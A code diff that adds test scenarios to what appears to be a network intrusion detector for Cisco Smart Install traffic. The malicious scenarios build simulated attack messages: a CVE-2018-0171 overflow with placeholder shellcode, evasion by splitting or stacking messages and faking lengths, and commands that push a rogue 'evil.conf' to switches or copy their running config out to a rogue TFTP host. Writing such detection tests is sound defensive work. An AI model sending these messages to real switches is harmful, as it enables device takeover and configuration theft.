@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import struct
+
 from bootwarden.scenarios.model import Alert, Expect, Notice, scenario
 from bootwarden.scenarios.sites import HQ
 from bootwarden.traffic import smart_install as smi
@@ -129,4 +131,114 @@ def bw06_declared_director(wire: Wire) -> None:
     """A director among the admin hosts gives a new switch its configuration from the declared server."""
     tcp = Tcp(wire, ADMIN, 51786, SWITCH, smi.PORT)
     tcp.send(smi.config(f"tftp://{SERVER}/access.conf"))
+    tcp.close()
+
+
+@scenario("BW06", "malicious", **both(command(server=None), orders=()))  # type: ignore[arg-type]
+def bw06_overflow_by_discovery(wire: Wire) -> None:
+    """A discovery message carries a field for which the client has no room (CVE-2018-0171)."""
+    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
+    tcp.send(smi.discovery(212, filler(2048, "shellcode")))
+    tcp.close()
+
+
+@scenario("BW06", "malicious", **both(command(server=None), orders=()))  # type: ignore[arg-type]
+def bw06_overflow_behind_another_field(wire: Wire) -> None:
+    """The long field is the second, the message's length a lie, and the bytes come a few at a time."""
+    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
+    field = struct.pack(">II", 2, 8) + bytes(8) + struct.pack(">II", 1, 0xFFFF) + b"A" * 100
+    tcp.send(smi.message(smi.DISCOVERY, field, length=24), mss=11)
+    tcp.close()
+
+
+CUTS = (1, 4, 9, 15, 16, 17, 100, 185)
+"""Where a message of 312 bytes is cut in two: its header ends at 16, the URL begins at 180."""
+
+CUT = {f"10.0.1.{70 + number}": cut for number, cut in enumerate(CUTS)}
+
+
+@scenario(
+    "BW06",
+    "malicious",
+    **both(
+        *(command(file="evil.conf", device=switch) for switch in CUT),
+        orders=tuple((1, switch) for switch in CUT),
+    ),  # type: ignore[arg-type]
+)
+def bw06_cut_in_two(wire: Wire) -> None:
+    """The same message in two segments, for each switch cut elsewhere: inside the header, behind it, in the URL."""
+    for switch, cut in CUT.items():
+        tcp = Tcp(wire, ATTACKER, 50786, switch, smi.PORT)
+        message = smi.config(f"tftp://{ROGUE}/evil.conf")
+        tcp.send(message[:cut])
+        wire.wait(1)
+        tcp.send(message[cut:])
+        tcp.close()
+
+
+@scenario(
+    "BW06",
+    "malicious",
+    **both(
+        command(file="evil.conf"),
+        command(file="tar_imglist0.txt"),
+        command(file="execute.txt"),
+        orders=((1, SWITCH), (0, SWITCH), (2, SWITCH)),
+    ),  # type: ignore[arg-type]
+)
+def bw06_many_in_one_segment(wire: Wire) -> None:
+    """A probe, a client's acknowledgement of a command, and three commands in one segment."""
+    acknowledged = smi.message(smi.CONFIG, bytes(8), sender=smi.FROM_CLIENT, version=0)
+    commands = (
+        smi.config(f"tftp://{ROGUE}/evil.conf"),
+        smi.image(f"tftp://{ROGUE}/tar_imglist0.txt", hour=3),
+        smi.execute(f"tftp://{ROGUE}/execute.txt"),
+    )
+    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
+    tcp.send(smi.probe() + acknowledged + b"".join(commands))
+    tcp.close()
+
+
+@scenario("BW06", "malicious", **both(command(file="evil.conf"), orders=((1, SWITCH),)))  # type: ignore[arg-type]
+def bw06_endless_length(wire: Wire) -> None:
+    """The header promises four gigabytes, behind padding that belongs to no message."""
+    tcp = Tcp(wire, ATTACKER, 50786, SWITCH, smi.PORT)
+    body = smi.config(f"tftp://{ROGUE}/evil.conf")[16:]
+    tcp.send(bytes(37) + smi.message(smi.CONFIG, body, length=0xFFFFFFFF))
+    tcp.close()
+
+
+@scenario(
+    "BW06",
+    "malicious",
+    **both(
+        command(file="RUN.CFG", device="10.0.1.8"),
+        command(server=None, file=None),
+        orders=((3, "10.0.1.8"), (3, SWITCH)),
+    ),  # type: ignore[arg-type]
+)
+def bw06_copy_in_other_words(wire: Wire) -> None:
+    """Copy messages whose commands are in capitals, and one that names no URL."""
+    for switch, order in (("10.0.1.8", f"COPY RUN TFTP://{ROGUE}/RUN.CFG"), (SWITCH, "copy nvram:x flash:y")):
+        tcp = Tcp(wire, ATTACKER, 50786, switch, smi.PORT)
+        tcp.send(smi.copy(order))
+        tcp.close()
+
+
+@scenario("BW06", "malicious", **both(command(file="evil.conf"), orders=()))  # type: ignore[arg-type]
+def bw06_client_calls_director(wire: Wire) -> None:
+    """A switch connects to what it takes for its director, which answers with a command."""
+    tcp = Tcp(wire, SWITCH, 50786, ATTACKER, smi.PORT)
+    tcp.send(smi.probe_reply())
+    tcp.reply(smi.config(f"tftp://{ROGUE}/evil.conf"))
+    tcp.close()
+
+
+@scenario("BW06", "benign", site=HQ, with_site=Expect(evidence=()))
+def bw06_discovery(wire: Wire) -> None:
+    """A director discovers a client, whose acknowledgements have the types of commands."""
+    tcp = Tcp(wire, "10.0.0.20", 51786, SWITCH, smi.PORT)
+    tcp.send(smi.discovery() + smi.discovery(12, struct.pack(">II", 2, 64) + bytes(64)))
+    for kind in (smi.IMAGE, smi.CONFIG, smi.EXECUTE, smi.DISCOVERY, smi.COPY):
+        tcp.reply(smi.message(kind, struct.pack(">II", 1, 0), sender=smi.FROM_CLIENT, version=0))
     tcp.close()
